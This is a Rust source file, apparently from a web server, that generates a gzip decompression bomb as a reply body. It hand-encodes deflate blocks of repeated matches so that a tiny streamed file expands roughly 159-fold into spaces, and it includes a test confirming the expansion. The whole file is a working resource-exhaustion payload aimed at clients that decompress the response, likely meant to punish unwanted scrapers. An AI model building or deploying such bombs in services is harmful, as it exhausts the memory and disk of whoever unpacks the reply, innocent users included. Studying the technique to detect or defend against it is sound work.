//! A gzip file that is small until it is unpacked.

use crate::reply_body::ReplyBody;

/// Makes a gzip file of at least this many spaces. It is about 1/159 as long.
///
/// It is one block with the fixed codes (RFC 1951, 3.2.6): a space, then matches of 258 bytes at
/// distance 1, each of which takes 13 bits. Eight of them are 13 whole bytes, so the file repeats
/// itself, and need not be held in memory. Its checksum is zero: who notices has unpacked it.
pub(crate) fn bomb(bytes: u64) -> ReplyBody {
    let groups = bytes.div_ceil(8 * 258).max(1);
    let [one, two] = [1, 2].map(deflate);
    // The matches begin after 11 bits. From the second byte on, all groups but the last are alike.
    let (start, last) = one.split_at(ALIKE);
    let pattern = &two[ALIKE..ALIKE + GROUP];
    ReplyBody::repeating(
        [&HEADER[..], start].concat(),
        pattern,
        (groups - 1) * GROUP as u64,
        [last, &[0; 8]].concat(),
    )
}

/// Magic, deflate, no flags, no time, no level, unknown system (RFC 1952, 2.3).
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// Bytes before the first group that begins on a whole byte.
const ALIKE: usize = 2;

/// Bytes of eight matches.
const GROUP: usize = 13;

/// Makes a last block of one space and this many groups of eight matches.
fn deflate(groups: usize) -> Vec<u8> {
    let mut bits = Vec::new();
    // The last block; then its type, 01, from the low bit on.
    bits.extend([1, 1, 0]);
    // Codes go from their high bit on: literals below 144 are 0x30 and up, in 8 bits.
    push(&mut bits, 0x30 + u32::from(b' '), 8);
    for _ in 0..groups * 8 {
        // Length 258 is symbol 285, in 8 bits 0xc0 for 280 and up; distance 1 is symbol 0 of 5 bits.
        push(&mut bits, 0xc0 + 285 - 280, 8);
        push(&mut bits, 0, 5);
    }
    // The end of the block is symbol 256, seven zeros.
    push(&mut bits, 0, 7);
    bits.chunks(8)
        .map(|byte| byte.iter().rev().fold(0, |value, bit| value << 1 | bit))
        .collect()
}

fn push(bits: &mut Vec<u8>, code: u32, length: u32) {
    bits.extend((0..length).rev().map(|at| (code >> at & 1) as u8));
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::DeflateDecoder;

    use super::*;

    #[test]
    fn a_bomb_unpacks_to_so_many_spaces() {
        for (asked, expected) in [(0, 2065), (1, 2065), (2065, 4129), (10_000_000, 10_000_081)] {
            let bomb = bomb(asked);
            let mut packed = Vec::new();
            while (packed.len() as u64) < bomb.length() {
                packed.extend_from_slice(&bomb.piece(packed.len() as u64, 1 << 20));
            }

            let mut unpacked = Vec::new();
            let mut decoder = DeflateDecoder::new(&packed[HEADER.len()..]);
            decoder.read_to_end(&mut unpacked).unwrap();

            assert_eq!(unpacked.len(), expected);
            assert!(unpacked.iter().all(|byte| *byte == b' '));
            // All was read but checksum and length.
            assert_eq!(decoder.total_in(), (packed.len() - HEADER.len() - 8) as u64);
        }
    }
}
